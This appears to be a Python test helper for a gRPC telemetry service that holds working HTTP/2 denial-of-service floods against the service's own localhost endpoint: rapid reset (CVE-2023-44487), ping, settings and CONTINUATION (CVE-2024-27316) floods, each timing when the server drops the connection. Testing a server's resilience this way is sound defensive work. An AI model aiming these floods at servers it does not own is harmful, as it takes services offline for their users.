"""A peer with a good certificate that speaks HTTP/2 to do harm, frame by frame.

It runs in a thread or process of its own: it blocks, and it computes as much as it can.
"""

import socket
import ssl
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from pathlib import Path
from tempfile import NamedTemporaryFile
from typing import Final

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
from hyperframe.frame import ContinuationFrame, HeadersFrame

from rpm_service.adapters import pki
from rpm_service.application.identity import Role

PATH: Final = "/rpm_service.v1.TelemetryService/StreamTelemetry"
BATCH: Final = 100
"""Frames between two looks at what the server says."""


@dataclass(frozen=True, slots=True)
class Outcome:
    """What became of an attack: how much was sent, and when the server ended the connection."""

    sent: int
    seconds: float
    cut_after_s: float | None


@contextmanager
def connected(host: str, port: int, certs: Path, peer: str) -> Iterator[ssl.SSLSocket]:
    """A TLS connection of a device that the authority has vouched for."""
    own = pki.ensure_client(certs, Role.DEVICE, peer)
    context = ssl.create_default_context(cadata=own.trust_pem.decode())
    context.set_alpn_protocols(["h2"])
    with NamedTemporaryFile() as pem:
        pem.write(own.chain_pem + own.key_pem)
        pem.flush()
        context.load_cert_chain(pem.name)
    with (
        socket.create_connection((host, port)) as plain,
        context.wrap_socket(plain, server_hostname="localhost") as tls,
    ):
        yield tls


class Attacker:
    """One HTTP/2 connection, and what can be done with it."""

    def __init__(self, tls: ssl.SSLSocket) -> None:
        self._tls = tls
        self._http2 = h2.connection.H2Connection(
            h2.config.H2Configuration(header_encoding="utf-8", validate_outbound_headers=False)
        )
        self._http2.initiate_connection()
        self._say()

    def rapid_reset(self, seconds: float) -> Outcome:
        """Opens streams and resets each at once (CVE-2023-44487)."""

        def reset() -> None:
            stream = self._http2.get_next_available_stream_id()
            self._http2.send_headers(stream, HEADERS)
            self._http2.reset_stream(stream)

        return self._flood(seconds, reset)

    def ping_flood(self, seconds: float) -> Outcome:
        """Asks for answers faster than they can be given."""
        return self._flood(seconds, lambda: self._http2.ping(b"12345678"))

    def settings_flood(self, seconds: float) -> Outcome:
        """Changes its settings all the time; each change must be acknowledged."""
        window = {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 65_535}
        return self._flood(seconds, lambda: self._http2.update_settings(window))

    def continuation_flood(self, seconds: float) -> Outcome:
        """Begins headers that never end (CVE-2024-27316)."""
        begun = HeadersFrame(1, data=self._http2.encoder.encode(HEADERS)).serialize()
        more = ContinuationFrame(1, data=b"\x00\x01a\x01b" * 1000).serialize()
        self._tls.sendall(begun)
        return self._flood(seconds, lambda: self._tls.sendall(more))

    def _say(self) -> None:
        data = self._http2.data_to_send()
        if data:
            self._tls.sendall(data)

    def _hear(self) -> None:
        self._tls.settimeout(0)
        try:
            with suppress(ssl.SSLWantReadError):
                while data := self._tls.recv(65_536):
                    for event in self._http2.receive_data(data):
                        if isinstance(event, h2.events.ConnectionTerminated):
                            raise ConnectionError("GOAWAY")
                raise ConnectionError("closed")
        finally:
            self._tls.settimeout(5)

    def _flood(self, seconds: float, act: Callable[[], None]) -> Outcome:
        began, sent = time.monotonic(), 0
        try:
            while time.monotonic() - began < seconds:
                for _ in range(BATCH):
                    act()
                self._say()
                sent += BATCH
                self._hear()
        except (OSError, h2.exceptions.ProtocolError):
            cut = time.monotonic() - began
            return Outcome(sent, cut, cut)
        return Outcome(sent, time.monotonic() - began, None)


HEADERS: Final = [
    (":method", "POST"),
    (":scheme", "https"),
    (":path", PATH),
    (":authority", "localhost"),
    ("te", "trailers"),
    ("content-type", "application/grpc"),
]
